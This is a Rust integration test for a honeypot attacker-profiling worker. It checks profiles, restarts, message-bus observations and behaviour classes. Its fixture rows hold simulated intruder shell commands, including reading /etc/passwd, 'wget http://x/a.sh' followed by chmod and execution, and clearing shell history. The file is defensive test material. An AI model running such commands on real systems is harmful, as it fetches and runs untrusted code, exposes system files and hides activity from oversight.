//! The profiler worker against real databases and a real bus: profiles, commands and
//! observations from a known sequence of log rows; restarts (a clean stop, `kill -9`) end with
//! exactly what one uninterrupted run stores; observations from the bus are validated and stored;
//! DECNET's behaviour classes end to end.

use svc_test_support::in_process as store;
use svc_test_support::processes as common;

use std::collections::BTreeMap;
use std::sync::Arc;

use chrono::{DateTime, Utc};
use common::{Nats, Proc, eventually, svc};
use futures::StreamExt;
use rustix::process::Signal;
use serde_json::{Value, json};
use store::TestDb;
use store::logs::{LogWriter, at};
use svc::bus::{Bus, Counters, Event};
use svc::config::Config;
use svc::db::{AttackerProfile, Db, NewBounty, NewCredential, NewLog};
use svc::worker::WorkerContext;
use tokio_util::sync::CancellationToken;

/// Stores rows the way the ingester does, with their bounties and credentials.
struct Writer(LogWriter);

impl Writer {
    async fn new(db: &Db) -> Writer {
        Writer(LogWriter::new(db).await)
    }

    async fn write(&mut self, rows: &[Row]) {
        for chunk in rows.chunks(2_000) {
            let logs = chunk.iter().map(|r| r.log.clone()).collect();
            let bounties = chunk.iter().flat_map(|r| r.bounty.clone()).collect();
            let credentials = chunk.iter().flat_map(|r| r.credential.clone()).collect();
            self.0.commit_with_credentials(logs, bounties, credentials).await;
        }
    }
}

/// One log row and what the ingester would have derived from it.
#[derive(Clone)]
struct Row {
    log: NewLog,
    bounty: Option<NewBounty>,
    credential: Option<NewCredential>,
}

fn log(ip: &str, decky: &str, service: &str, kind: &str, fields: Value, at: DateTime<Utc>) -> Row {
    Row { log: store::logs::log(decky, service, kind, ip, fields, at), bounty: None, credential: None }
}

/// A decoy shell's `CMD …` line.
fn shell(ip: &str, decky: &str, command: &str, at: DateTime<Utc>) -> Row {
    let mut row = log(ip, decky, "bash", "command", json!({}), at);
    row.log.msg = Some(format!("CMD uid=0 user=root src={ip} pwd=/root cmd={command}"));
    row
}

fn with_fingerprint(mut row: Row, ja3: &str) -> Row {
    row.bounty = Some(NewBounty {
        timestamp: row.log.timestamp,
        decky: row.log.decky.clone(),
        service: row.log.service.clone(),
        attacker_ip: row.log.attacker_ip.clone(),
        bounty_type: "fingerprint".into(),
        payload: json!({"fingerprint_type": "ja3", "ja3": ja3}).to_string(),
    });
    row
}

fn with_credential(mut row: Row, password: &str) -> Row {
    row.credential = Some(NewCredential {
        seen_at: row.log.timestamp,
        attacker_ip: row.log.attacker_ip.clone(),
        decky: row.log.decky.clone(),
        service: row.log.service.clone(),
        secret_kind: "plaintext".into(),
        secret_sha256: format!("{:064x}", password.len() * 7919 + password.bytes().map(usize::from).sum::<usize>()),
        principal: Some("root".into()),
        secret_printable: password.into(),
        secret_b64: String::new(),
        outcome: None,
    });
    row
}

fn secs(s: i64) -> DateTime<Utc> {
    at(0) + chrono::Duration::seconds(s)
}

/// The known sequence: two attackers in detail, rows that must be skipped, out-of-order time.
fn known_rows() -> Vec<Row> {
    const A: &str = "203.0.113.7";
    const B: &str = "198.51.100.20";
    vec![
        log(A, "ssh-01", "ssh", "connection", json!({}), secs(0)),
        with_credential(log(A, "ssh-01", "ssh", "login_attempt", json!({"username": "root"}), secs(10)), "toor"),
        with_credential(log(A, "ssh-01", "ssh", "login_attempt", json!({"username": "root"}), secs(20)), "admin"),
        with_fingerprint(log(A, "web-01", "http", "tls_client_hello", json!({}), secs(30)), "771,1-2"),
        log(B, "ftp-01", "ftp", "connection", json!({}), secs(31)),
        shell(A, "ssh-01", "uname -a; id", secs(40)),
        // Earlier than the row before it: a zero gap.
        shell(A, "ssh-01", "cat /etc/passwd | grep root | cut -d: -f1", secs(35)),
        log("Unknown", "ssh-01", "ssh", "connection", json!({}), secs(41)),
        log(A, "-", "ssh", "connection", json!({}), secs(42)),
        log(A, "ssh-01", "-", "connection", json!({}), secs(43)),
        log(B, "ftp-01", "ftp", "download", json!({"size": 5_000_000}), secs(50)),
        with_fingerprint(log(B, "web-01", "http", "tls_client_hello", json!({}), secs(51)), "771,3-4"),
        shell(A, "db-01", "tmux new -s x", secs(60)),
        log(A, "db-01", "mysql", "sql_query", json!({"sql": "select user()"}), secs(70)),
        log(B, "ftp-01", "ftp", "command", json!({"command": "RETR passwd"}), secs(80)),
    ]
}

/// The profiler running in this process, as the API embeds it.
struct Profiler {
    cancel: CancellationToken,
    task: tokio::task::JoinHandle<anyhow::Result<()>>,
    counters: Counters,
}

impl Profiler {
    fn start(config: &Config, db: &Db, bus: Bus) -> Profiler {
        let cancel = CancellationToken::new();
        let ctx = WorkerContext::new(Arc::new(config.clone()), db.clone(), bus, cancel.clone());
        let counters = ctx.counters.clone();
        let body = svc_workers::profiler::body();
        Profiler { cancel, task: tokio::spawn((body.run)(ctx)), counters }
    }

    fn counter(&self, name: &str) -> u64 {
        self.counters.snapshot().get(name).copied().unwrap_or(0)
    }

    async fn stop(self) {
        self.cancel.cancel();
        self.task.await.unwrap().unwrap();
    }
}

fn config(backend: &TestDb) -> Config {
    backend.api_config(&[("SVC_PROFILER_POLL_MS", "20"), ("SVC_INGEST_LEASE_SECS", "1")])
}

async fn caught_up(db: &Db) {
    let last = db.last_log_id().await.unwrap();
    eventually("the profiler catches up", || async { db.profiler_cursor().await.unwrap() >= last }).await;
}

async fn profile(db: &Db, ip: &str) -> AttackerProfile {
    db.attackers_by_ip(&[ip.to_string()]).await.unwrap().pop().unwrap_or_else(|| panic!("no profile of {ip}"))
}

async fn profile_once(backend: &TestDb, rows: &[Row]) -> Db {
    let db = backend.open().await;
    Writer::new(&db).await.write(rows).await;
    let profiler = Profiler::start(&config(backend), &db, Bus::absent());
    caught_up(&db).await;
    profiler.stop().await;
    db
}

#[tokio::test]
async fn known_rows_give_every_profile_field_and_the_commands() {
    for backend in TestDb::all() {
        let name = backend.name;
        let db = profile_once(&backend, &known_rows()).await;

        let a = profile(&db, "203.0.113.7").await;
        assert_eq!((a.first_seen, a.last_seen), (secs(0), secs(70)), "{name}");
        assert_eq!(a.event_count, 8, "{name}: the skipped rows are not counted");
        assert_eq!(a.services, ["bash", "http", "mysql", "ssh"], "{name}");
        assert_eq!(a.deckies, ["ssh-01", "web-01", "db-01"], "{name}");
        assert_eq!(a.traversal_path(), "ssh-01 → web-01 → db-01");
        assert_eq!((a.bounty_count, a.credential_count), (1, 2), "{name}");
        let fingerprints: Value = serde_json::from_str(&a.fingerprints).unwrap();
        assert_eq!(fingerprints, json!([{"fingerprint_type": "ja3", "ja3": "771,1-2"}]), "{name}");
        assert_eq!(a.command_count, 4, "{name}");
        assert!(a.updated_at > at(0));
        let behavior: Value = serde_json::from_str(&a.behavior).unwrap();
        // Gaps 10, 10, 10, 10, 0 (35 s after 40 s), 20, 10: mean 70 / 7.
        assert_eq!(behavior["timing_stats"]["event_count"], 8, "{name}");
        assert_eq!(behavior["timing_stats"]["mean_iat_s"], 10.0, "{name}");
        assert_eq!(behavior["behavior_class"], "slow_scan", "{name}: 4 services, mean 10 s");
        assert_eq!(behavior["beacon_interval_s"], Value::Null);
        assert_eq!(behavior["phase_sequence"]["recon_end_ts"], "2026-11-21T14:00:20.000Z", "{name}");
        assert_eq!(behavior["phase_sequence"]["exfil_start_ts"], "2026-11-21T14:00:35.000Z", "{name}");
        assert_eq!(behavior["phase_sequence"]["exfil_latency_s"], 15.0, "{name}");
        assert_eq!(behavior["phase_sequence"]["large_payload_count"], 0, "{name}");
        assert_eq!(behavior["os_guess"], Value::Null);
        let state: Value = serde_json::from_str(&a.fold_state).unwrap();
        assert_eq!(state["shell"]["commands"], 3, "{name}");

        let commands = db.attacker_commands(a.uuid, None, 50, 0).await.unwrap();
        assert_eq!(commands.total, 4, "{name}");
        let listed: Vec<(i64, &str, &str, &str)> = commands
            .rows
            .iter()
            .map(|c| {
                (c.timestamp.timestamp() - at(0).timestamp(), c.service.as_str(), c.decky.as_str(), c.command.as_str())
            })
            .collect();
        assert_eq!(
            listed,
            [
                (70, "mysql", "db-01", "select user()"),
                (60, "bash", "db-01", "tmux new -s x"),
                (40, "bash", "ssh-01", "uname -a; id"),
                (35, "bash", "ssh-01", "cat /etc/passwd | grep root | cut -d: -f1"),
            ],
            "{name}: newest first"
        );

        let observations = db.attacker_observations(a.uuid, 50).await.unwrap();
        let mut got: Vec<(String, Value)> =
            observations.iter().map(|o| (o.primitive.clone(), o.value.clone())).collect();
        got.sort_by(|x, y| x.0.cmp(&y.0));
        assert_eq!(
            got,
            [
                ("cognitive.tool_vocabulary".to_string(), json!("moderate")),
                ("environmental.terminal_multiplexer".to_string(), json!("tmux")),
                ("motor.shell_mastery.pipe_chaining_depth".to_string(), json!("moderate")),
            ],
            "{name}"
        );
        for o in &observations {
            assert_eq!(o.source, "workers/src/profiler/shell.rs");
            assert_eq!(o.evidence_ref, Some(format!("svc:attackers/{}/commands", a.uuid)));
            assert_eq!(
                (o.window.start_ts, o.window.end_ts),
                (secs(35).timestamp() as f64, secs(60).timestamp() as f64)
            );
            assert_eq!(o.confidence, svc_workers::profiler::shell::confidence(3));
            assert!(svc::observation::validate(&serde_json::to_value(o).unwrap()).is_ok());
        }

        let b = profile(&db, "198.51.100.20").await;
        assert_eq!((b.first_seen, b.last_seen, b.event_count), (secs(31), secs(80), 4), "{name}");
        assert_eq!(
            (b.services.clone(), b.deckies.clone()),
            (vec!["ftp".into(), "http".into()], vec!["ftp-01".into(), "web-01".into()])
        );
        assert_eq!((b.bounty_count, b.credential_count, b.command_count), (1, 0, 1), "{name}");
        let behavior: Value = serde_json::from_str(&b.behavior).unwrap();
        assert_eq!(behavior["phase_sequence"]["large_payload_count"], 1, "{name}");
        assert_eq!(behavior["phase_sequence"]["recon_end_ts"], "2026-11-21T14:00:31.000Z", "{name}");
        assert_eq!(behavior["phase_sequence"]["exfil_start_ts"], "2026-11-21T14:00:50.000Z", "{name}");
        assert!(db.attacker_observations(b.uuid, 10).await.unwrap().is_empty(), "{name}: FTP verbs are not shell");
        assert!(db.attackers_by_ip(&["Unknown".to_string()]).await.unwrap().is_empty());
        assert_eq!(db.attackers(&Default::default(), 10, 0).await.unwrap().total, 2, "{name}");
    }
}

/// Many rows over many addresses, with shell sessions, bounties and credentials.
fn many_rows(n: usize) -> Vec<Row> {
    let commands = [
        "ls -la",
        "cat /etc/passwd | grep sh | wc -l",
        "man ps",
        "history -c",
        "unset HISTFILE",
        "wget http://x/a.sh",
        "chmod +x a.sh",
        "./a.sh",
        "tmux",
        "ps aux | sort | head | tail",
    ];
    let services = ["ssh", "http", "ftp", "smtp"];
    (0..n)
        .map(|i| {
            let ip = format!("10.0.{}.{}", i % 7, i % 97);
            let decky = format!("decky-{}", (i / 13) % 5);
            // Mostly rising time, every 11th row a little back.
            let t = secs(i as i64 * 3 - if i % 11 == 0 { 20 } else { 0 });
            match i % 9 {
                0 | 1 => shell(&ip, &decky, commands[i % commands.len()], t),
                2 => with_fingerprint(log(&ip, &decky, "http", "tls_client_hello", json!({}), t), &format!("771,{i}")),
                3 => with_credential(log(&ip, &decky, "ssh", "login_attempt", json!({}), t), &format!("pw{}", i % 5)),
                4 if i % 4 == 0 => log("Unknown", &decky, "ssh", "connection", json!({}), t),
                _ => log(&ip, &decky, services[i % services.len()], "request", json!({"size": i * 1000}), t),
            }
        })
        .collect()
}

/// Everything a profile run stored, with each attacker's uuid replaced by its address so two
/// databases compare; `updated_at`, observation ids and emission times left out.
async fn snapshot(db: &Db) -> BTreeMap<String, Value> {
    let mut all = BTreeMap::new();
    let page = db.attackers(&Default::default(), 1000, 0).await.unwrap();
    assert!(page.total < 1000);
    for p in page.rows {
        let uuid = p.uuid.to_string();
        let commands = db.attacker_commands(p.uuid, None, 1000, 0).await.unwrap();
        let commands: Vec<Value> = commands
            .rows
            .iter()
            .map(|c| json!([c.log_id, c.timestamp.to_rfc3339(), c.service, c.decky, c.command]))
            .collect();
        let mut observations: Vec<Value> = db
            .attacker_observations(p.uuid, 100)
            .await
            .unwrap()
            .into_iter()
            .map(|mut o| {
                (o.id, o.ts) = (None, None);
                serde_json::to_string(&o).unwrap().replace(&uuid, &p.ip).parse().unwrap()
            })
            .collect();
        observations.sort_by_key(|o| o["primitive"].to_string());
        let value = json!({
            "first_seen": p.first_seen.to_rfc3339(),
            "last_seen": p.last_seen.to_rfc3339(),
            "event_count": p.event_count,
            "services": p.services,
            "deckies": p.deckies,
            "bounty_count": p.bounty_count,
            "credential_count": p.credential_count,
            "fingerprints": p.fingerprints,
            "command_count": p.command_count,
            "behavior": p.behavior,
            "fold_state": p.fold_state,
            "commands": commands,
            "observations": observations,
        });
        all.insert(p.ip.clone(), value);
    }
    all
}

/// Counted rows per address, what the event counts must be.
fn expected_counts(rows: &[Row]) -> BTreeMap<String, i64> {
    let mut counts = BTreeMap::new();
    for r in rows.iter().filter(|r| r.log.attacker_ip != "Unknown") {
        *counts.entry(r.log.attacker_ip.clone()).or_default() += 1;
    }
    counts
}

fn event_counts(snapshot: &BTreeMap<String, Value>) -> BTreeMap<String, i64> {
    snapshot.iter().map(|(ip, p)| (ip.clone(), p["event_count"].as_i64().unwrap())).collect()
}

#[tokio::test]
async fn a_restart_mid_way_ends_with_what_one_uninterrupted_run_stores() {
    let rows = many_rows(14_000);
    for (backend, reference) in TestDb::all().into_iter().zip(TestDb::all()) {
        let name = backend.name;
        let uninterrupted = snapshot(&profile_once(&reference, &rows).await).await;
        assert_eq!(event_counts(&uninterrupted), expected_counts(&rows), "{name}");

        let db = backend.open().await;
        let mut writer = Writer::new(&db).await;
        writer.write(&rows[..12_000]).await;
        // Stopped as soon as its first page is stored, with more to fold.
        let profiler = Profiler::start(&config(&backend), &db, Bus::absent());
        eventually("a first page is folded", || async { db.profiler_cursor().await.unwrap() > 0 }).await;
        profiler.stop().await;
        // Usually mid-way; a fast machine may have folded the second page before the stop.
        let stopped_at = db.profiler_cursor().await.unwrap();
        eprintln!("{name}: stopped at log id {stopped_at} of {}", db.last_log_id().await.unwrap());
        // A second instance finishes, while the rest is written; a third after a stop when caught up.
        let profiler = Profiler::start(&config(&backend), &db, Bus::absent());
        writer.write(&rows[12_000..13_000]).await;
        caught_up(&db).await;
        profiler.stop().await;
        writer.write(&rows[13_000..]).await;
        let profiler = Profiler::start(&config(&backend), &db, Bus::absent());
        caught_up(&db).await;
        profiler.stop().await;

        let restarted = snapshot(&db).await;
        assert_eq!(event_counts(&restarted), expected_counts(&rows), "{name}: no row counted twice or lost");
        assert_eq!(restarted.len(), uninterrupted.len());
        for (ip, profile) in &uninterrupted {
            assert_eq!(&restarted[ip], profile, "{name}: {ip}");
        }
    }
}

#[tokio::test]
async fn kill_9_mid_way_and_a_restart_count_every_row_once() {
    let rows = many_rows(30_000);
    for (backend, reference) in TestDb::all().into_iter().zip(TestDb::all()) {
        let name = backend.name;
        let uninterrupted = snapshot(&profile_once(&reference, &rows).await).await;
        let db = backend.open().await;
        Writer::new(&db).await.write(&rows).await;
        let dir = tempfile::tempdir().unwrap();
        let command = || {
            let mut command = svc(dir.path(), &["worker", "profiler"]);
            command.envs(backend.vars()).env("SVC_INGEST_LEASE_SECS", "1").env("SVC_PROFILER_POLL_MS", "50");
            command
        };
        let first = Proc::spawn(command());
        eventually("a first page is folded", || async { db.profiler_cursor().await.unwrap() > 0 }).await;
        first.signal(Signal::KILL);
        drop(first);
        let killed_at = db.profiler_cursor().await.unwrap();
        eprintln!("{name}: killed at log id {killed_at} of {}", db.last_log_id().await.unwrap());
        let second = Proc::spawn(command());
        caught_up(&db).await;
        drop(second);
        let restarted = snapshot(&db).await;
        assert_eq!(event_counts(&restarted), expected_counts(&rows), "{name}");
        assert_eq!(restarted, uninterrupted, "{name}");
    }
}

#[tokio::test]
async fn observations_from_the_bus_are_validated_and_stored() {
    let nats = Nats::start();
    let backend = TestDb::sqlite();
    let db = backend.open().await;
    Writer::new(&db).await.write(&known_rows()).await;
    let bus = Bus::connect(Some(&nats.url()), "profiler-test").await;
    let profiler = Profiler::start(&config(&backend), &db, bus.clone());
    caught_up(&db).await;
    let attacker = profile(&db, "203.0.113.7").await.uuid;

    let record = |confidence: f64, id: &str| {
        json!({
            "primitive": "cognitive.tool_vocabulary",
            "value": "broad",
            "confidence": confidence,
            "window": {"start_ts": 1_800_000_000.0, "end_ts": 1_800_000_060.0},
            "source": "decnet/profiler/behave_shell/_handler.py",
            "id": id,
            "identity_ref": null,
            "evidence_ref": "shard:ssh-01/ssh/x.cast#1",
            "v": 1,
            "attacker_uuid": attacker.to_string(),
        })
    };
    let publish = |payload: Value| {
        let bus = bus.clone();
        async move {
            let event =
                Event::new("attacker.observation.cognitive.tool_vocabulary", "cognitive.tool_vocabulary", payload);
            bus.publish_confirmed(&event).await.unwrap();
        }
    };
    let valid = "6d1f3f0e-5d8e-4c1b-9a57-0c3e9c1f2a10";
    publish(record(0.7, valid)).await;
    publish(record(1.5, "0c9b1f8e-2a4d-4f6e-8b1a-3c5d7e9f1a2b")).await;
    publish(record(0.7, valid)).await;
    eventually("the records are handled", || async {
        profiler.counter("observations_stored") == 1
            && profiler.counter("observations_rejected") == 1
            && profiler.counter("observations_duplicate") == 1
    })
    .await;
    let stored = db.attacker_observations(attacker, 50).await.unwrap();
    let vocabulary: Vec<_> = stored.iter().filter(|o| o.source.starts_with("decnet/")).collect();
    assert_eq!(vocabulary.len(), 1, "{stored:?}");
    assert_eq!(vocabulary[0].id.as_deref(), Some(valid));
    assert_eq!(vocabulary[0].confidence, 0.7);
    assert_eq!(vocabulary[0].identity_ref, Some(attacker.to_string()), "attacker_uuid became the identity");
    // The profiler's own observations came back on the bus too, and were not stored twice.
    assert_eq!(stored.len(), 4, "{stored:?}");
    profiler.stop().await;
    bus.close().await;
}

#[tokio::test]
async fn a_flood_of_observations_is_stored_whole_and_counted_exactly() {
    let nats = Nats::start();
    let backend = TestDb::sqlite();
    let db = backend.open().await;
    let bus = Bus::connect(Some(&nats.url()), "profiler-test").await;
    // Once a row is folded, the profiler holds the lease, and its intake stores what arrives.
    Writer::new(&db).await.write(&[log("203.0.113.7", "ssh-01", "ssh", "connection", json!({}), secs(1))]).await;
    let profiler = Profiler::start(&config(&backend), &db, bus.clone());
    caught_up(&db).await;
    let attacker = uuid::Uuid::new_v4().to_string();
    let record = |n: usize, confidence: f64| {
        let payload = json!({
            "primitive": "motor.keystroke_cadence",
            "value": "steady",
            "confidence": confidence,
            "window": {"start_ts": 1_800_000_000.0 + n as f64, "end_ts": 1_800_000_001.0 + n as f64},
            "source": "sensor/test",
            "id": uuid::Uuid::from_u128(n as u128 + 1).to_string(),
            "identity_ref": attacker,
            "evidence_ref": format!("shard:ssh-01/ssh/flood.cast#{n}"),
            "v": 1,
        });
        Event::new("attacker.observation.motor.keystroke_cadence", "motor.keystroke_cadence", payload)
    };
    // 2,000 records as fast as they go, every hundredth sent twice and every 250th invalid.
    let (mut valid, mut duplicates, mut invalid) = (0, 0, 0);
    for n in 0..2_000 {
        if n % 250 == 0 {
            bus.publish(&record(n, 1.5)).await.unwrap();
            invalid += 1;
            continue;
        }
        bus.publish(&record(n, 0.5)).await.unwrap();
        valid += 1;
        if n % 100 == 1 {
            bus.publish(&record(n, 0.5)).await.unwrap();
            duplicates += 1;
        }
    }
    eventually("every record is handled", || async {
        profiler.counter("observations_stored") == valid
            && profiler.counter("observations_duplicate") == duplicates
            && profiler.counter("observations_rejected") == invalid
    })
    .await;
    assert_eq!(profiler.counter("observations_failed"), 0);
    let stored = db.attacker_observations(attacker.parse().unwrap(), 5_000).await.unwrap();
    assert_eq!(stored.len() as u64, valid, "each valid record stored once");
    profiler.stop().await;
    bus.close().await;
}

/// The next event on `subscriber` whose topic is not an observation's.
async fn next_profile_event(subscriber: &mut async_nats::Subscriber) -> Event {
    loop {
        let message = tokio::time::timeout(std::time::Duration::from_secs(10), subscriber.next())
            .await
            .expect("a profile event within 10 s")
            .expect("the subscription stays open");
        let event: Event = serde_json::from_slice(&message.payload).unwrap();
        assert_eq!(event.topic, message.subject.as_str());
        if !event.topic.starts_with("attacker.observation.") {
            return event;
        }
    }
}

#[tokio::test]
async fn profile_changes_are_announced_on_the_bus() {
    let nats = Nats::start();
    let backend = TestDb::sqlite();
    let db = backend.open().await;
    let bus = Bus::connect(Some(&nats.url()), "profiler-test").await;
    let mut subscriber = bus.subscribe("attacker.>".into()).await.unwrap();
    // The address's earliest row is stored after a later one: first contact goes by time.
    let mut writer = Writer::new(&db).await;
    writer
        .write(&[
            log("203.0.113.7", "ssh-01", "ssh", "login_attempt", json!({}), secs(100)),
            log("203.0.113.7", "ftp-01", "ftp", "connection", json!({}), secs(40)),
            log("198.51.100.9", "ssh-01", "ssh", "connection", json!({}), secs(70)),
        ])
        .await;
    let profiler = Profiler::start(&config(&backend), &db, bus.clone());
    caught_up(&db).await;

    let mut events = BTreeMap::new();
    for _ in 0..4 {
        let event = next_profile_event(&mut subscriber).await;
        let key = (event.topic.clone(), event.payload["attacker_ip"].as_str().unwrap().to_string());
        assert!(events.insert(key, event).is_none(), "each address is announced once per batch");
    }
    let first = profile(&db, "203.0.113.7").await;
    let observed = &events[&("attacker.observed".into(), "203.0.113.7".into())];
    assert_eq!(observed.kind, "observed");
    assert_eq!(
        observed.payload,
        json!({
            "attacker_uuid": first.uuid, "attacker_ip": "203.0.113.7", "decky": "ftp-01", "service": "ftp",
            "event_type": "connection", "first_seen": svc::time::format_utc(secs(40)),
        })
    );
    let scored = &events[&("attacker.scored".into(), "203.0.113.7".into())];
    assert_eq!(scored.kind, "scored");
    assert_eq!(
        scored.payload,
        json!({
            "attacker_uuid": first.uuid, "attacker_ip": "203.0.113.7", "event_count": 2, "service_count": 2,
            "decky_count": 2, "bounty_count": 0, "credential_count": 0, "is_traversal": true,
            "behavior_class": "unknown",
        })
    );
    let other = profile(&db, "198.51.100.9").await;
    assert_eq!(
        events[&("attacker.observed".into(), "198.51.100.9".into())].payload["attacker_uuid"],
        json!(other.uuid)
    );
    assert_eq!(events[&("attacker.scored".into(), "198.51.100.9".into())].payload["event_count"], 1);

    // A known address is scored again, never observed again.
    writer.write(&[log("203.0.113.7", "ssh-01", "ssh", "command", json!({}), secs(130))]).await;
    let event = next_profile_event(&mut subscriber).await;
    assert_eq!(event.topic, "attacker.scored", "{event:?}");
    assert_eq!(event.payload["attacker_uuid"], json!(first.uuid));
    assert_eq!(event.payload["event_count"], 3);
    profiler.stop().await;
    bus.close().await;
}

#[tokio::test]
async fn behaviour_classes_end_to_end() {
    let backend = TestDb::sqlite();
    let mut rows = Vec::new();
    // Beaconing: one service every 60 s, ±3 s.
    for i in 0..8 {
        rows.push(log("192.0.2.1", "web-01", "http", "request", json!({}), secs(i * 60 + (i % 2) * 3)));
    }
    // Brute force: one service, every 2 s or so.
    for i in 0..12 {
        rows.push(log("192.0.2.2", "ssh-01", "ssh", "login_attempt", json!({}), secs(i * 2 + (i % 3) / 2)));
    }
    // Scanning: four services within seconds.
    for (i, service) in ["ssh", "http", "ftp", "smtp"].iter().enumerate() {
        rows.push(log("192.0.2.3", "web-01", service, "connection", json!({}), secs(i as i64)));
    }
    // Interactive: one service, bursts and pauses (too few rows for brute force).
    for t in [0, 1, 2, 12, 13, 14, 25] {
        rows.push(log("192.0.2.4", "ssh-01", "ssh", "command", json!({"command": "ls"}), secs(t)));
    }
    rows.sort_by_key(|r| r.log.timestamp);
    let db = profile_once(&backend, &rows).await;
    for (ip, class) in [
        ("192.0.2.1", "beaconing"),
        ("192.0.2.2", "brute_force"),
        ("192.0.2.3", "scanning"),
        ("192.0.2.4", "interactive"),
    ] {
        let behavior: Value = serde_json::from_str(&profile(&db, ip).await.behavior).unwrap();
        assert_eq!(behavior["behavior_class"], class, "{ip}: {behavior}");
        if class == "beaconing" {
            let interval = behavior["beacon_interval_s"].as_f64().unwrap();
            assert!((interval - 60.0).abs() < 1.0, "{interval}");
            assert!(behavior["beacon_jitter_pct"].as_f64().unwrap() < 35.0);
        } else {
            assert_eq!(behavior["beacon_interval_s"], Value::Null);
        }
    }
}

#[tokio::test]
async fn spellings_of_one_address_follow_the_store_and_never_stall_the_profiler() {
    for backend in TestDb::all() {
        let name = backend.name;
        let db = backend.open().await;
        let mut writer = Writer::new(&db).await;
        let long = "h".repeat(300);
        writer
            .write(&[
                log("2001:DB8::1", "web-01", "http", "request", json!({}), secs(0)),
                log("2001:db8::1", "web-01", "http", "request", json!({}), secs(1)),
                log(&long, "web-01", "http", "request", json!({}), secs(2)),
            ])
            .await;
        let profiler = Profiler::start(&config(&backend), &db, Bus::absent());
        caught_up(&db).await;
        // In a later page, the other spellings again: the stored profile is found and folded into.
        writer
            .write(&[
                log("2001:db8::1 ", "web-01", "http", "request", json!({}), secs(3)),
                log(&format!("{long}x"), "web-01", "http", "request", json!({}), secs(4)),
            ])
            .await;
        caught_up(&db).await;
        profiler.stop().await;
        // Each backend's notion of one address: exact on sqlite; on MySQL case-insensitive, without
        // trailing spaces, within 255 characters. Either way the profiler got past every page.
        let page = db.attackers(&Default::default(), 10, 0).await.unwrap();
        let mut counts: Vec<i64> = page.rows.iter().map(|p| p.event_count).collect();
        counts.sort();
        let expected: &[i64] = if name == "mysql" { &[2, 3] } else { &[1, 1, 1, 1, 1] };
        assert_eq!(counts, expected, "{name}");
    }
}

#[tokio::test]
async fn svc_api_embeds_the_profiler_when_asked() {
    let backend = TestDb::sqlite();
    let db = backend.open().await;
    Writer::new(&db).await.write(&known_rows()).await;
    let dir = tempfile::tempdir().unwrap();
    let (mut command, port) = common::api_command(dir.path(), None);
    command.envs(backend.vars()).env("SVC_EMBED_PROFILER", "1").env("SVC_PROFILER_POLL_MS", "50");
    let api = common::start_api(command, port).await;
    caught_up(&db).await;
    assert_eq!(profile(&db, "203.0.113.7").await.event_count, 8);
    drop(api);
}
